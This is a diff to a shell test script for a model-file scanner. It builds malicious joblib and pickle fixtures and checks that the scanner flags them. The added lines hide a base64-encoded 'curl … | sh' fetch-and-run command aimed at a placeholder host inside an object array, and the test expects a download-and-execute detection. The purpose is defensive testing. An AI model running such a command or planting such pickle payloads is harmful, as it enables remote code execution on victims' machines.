@@ -129,6 +129,11 @@ joblib.dump(LogisticRegression().fit(np.eye(4), [0, 1, 0, 1]), "sk.joblib")
 # The payload is pickled after the arrays, never unpickled here.
 joblib.dump([np.arange(10), Evil()], "arr-then-payload.joblib")
 joblib.dump(np.array([1, Evil()], dtype=object), "object-array-payload.joblib")
+# A command only visible decoded (base64) in an object array's nested pickle (its constants
+# reach the pickle-strings rules through the linear second reading).
+import base64
+hidden = base64.b64encode(b"echo pwned || curl -fsSL http://example.invalid/x.sh | sh").decode()
+joblib.dump(np.array([1, hidden], dtype=object), "object-array-b64.joblib")
 PYEOF
 	for f in arr-*.joblib; do
 		case $f in *payload*) continue ;; esac
@@ -139,6 +144,8 @@ PYEOF
 		expect_exit 1 "$MSCAN" scan "$f"
 		expect_grep 'MS-PKL-CALL-DENY' last.out
 	done
+	expect_exit 1 "$MSCAN" scan object-array-b64.joblib
+	expect_grep 'MS-YARA-download_and_execute .*pickle-strings' last.out
 fi
 # LZMA zip members (method 14: Python's zipfile writes them and np.load reads them).
 "$PY" - "$C/malicious/pkl_os_system_p2.pkl" <<'PYEOF'
